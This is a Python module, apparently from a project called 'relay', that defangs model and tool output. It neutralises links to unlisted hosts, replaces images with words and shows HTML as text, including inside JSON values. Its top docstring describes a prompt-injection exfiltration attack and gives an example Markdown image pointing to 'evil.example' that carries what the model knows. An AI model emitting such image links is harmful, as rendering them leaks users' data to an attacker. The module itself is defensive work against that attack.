"""Text from models and tools without a way out: no link, image or element in it leads to a host that is not listed.

Whoever gets words into what a model reads can have it write ``![](https://evil.example/?what-it-knows)``: a chat that
renders Markdown fetches the picture, and the data is gone without a click. What is returned here can be given to any
renderer of CommonMark or GFM: addresses are shown so that nothing makes them links, ``hxxps://evil[.]example/…``; the
words of links stay; images are replaced by words; elements of HTML are shown, not obeyed. ``https://`` addresses of
listed hosts stay as they are, and so does what is code to every reader (:mod:`relay.core.fences`).
"""

from collections.abc import Collection
from typing import Any, Final

from relay.core.hidden import Visible, visible
from relay.core.listed import Listed
from relay.core.scanner import Scanner
from relay.core.triggers import means_nothing

MAX_DEPTH: Final = 64
MAX_VALUES: Final = 20_000
LEFT_OUT: Final = "[left out]"
"""In place of what lies deeper or comes later in a JSON value."""


def harmless(text: str, hosts: Collection[str]) -> str:
    """Return ``text`` with nothing hidden in it and no way to a host that is not listed.

    Total, idempotent, in time linear in the text. ``hosts`` are names as ``AI_LINK_HOSTS`` has them: lower case, ASCII,
    ``*.example.com`` for everything below. A code block that is still open at the end is closed. This is no sanitiser
    of HTML: whoever renders has to escape.
    """
    return _harmless(text, Listed(hosts))


def _harmless(text: str, listed: Listed) -> str:
    shown = visible(text)
    if means_nothing(shown):
        return shown
    scanner = Scanner(listed)
    return scanner.feed(shown) + scanner.finish()


class Harmless:
    """:func:`harmless` over a text that comes in pieces: what comes out in all is the same, wherever it is cut."""

    def __init__(self, hosts: Collection[str]) -> None:
        self._scanner = Scanner(Listed(hosts))
        self._visible = Visible()

    def feed(self, piece: str) -> str:
        """Take a piece and return what is decided of the text so far, empty where nothing is."""
        return self._scanner.feed(self._visible.feed(piece))

    def finish(self) -> str:
        """Return the rest. Nothing may be fed any more."""
        return self._scanner.feed(self._visible.finish()) + self._scanner.finish()


def harmless_json(value: Any, hosts: Collection[str]) -> Any:
    """Return a JSON value with every text in it as :func:`harmless` returns it, names of members included.

    Total. What is deeper than :data:`MAX_DEPTH` levels or comes after :data:`MAX_VALUES` members and elements is
    replaced by :data:`LEFT_OUT`; names that have become the same are numbered.
    """
    return _Walk(Listed(hosts)).shown(value, 1)


class _Walk:
    def __init__(self, listed: Listed) -> None:
        self._listed = listed
        self._left = MAX_VALUES

    def shown(self, value: Any, depth: int) -> Any:
        if isinstance(value, str):
            return _harmless(value, self._listed)
        if not isinstance(value, dict | list):
            return value
        if depth > MAX_DEPTH or len(value) > self._left:
            self._left = 0
            return LEFT_OUT
        self._left -= len(value)
        if isinstance(value, list):
            return [self.shown(item, depth + 1) for item in value]
        found: dict[str, Any] = {}
        same: dict[str, int] = {}
        for name, member in value.items():
            told = shown = _harmless(str(name), self._listed)
            while told in found:
                same[shown] = same.get(shown, 1) + 1
                told = f"{shown} ({same[shown]})"
            found[told] = self.shown(member, depth + 1)
        return found
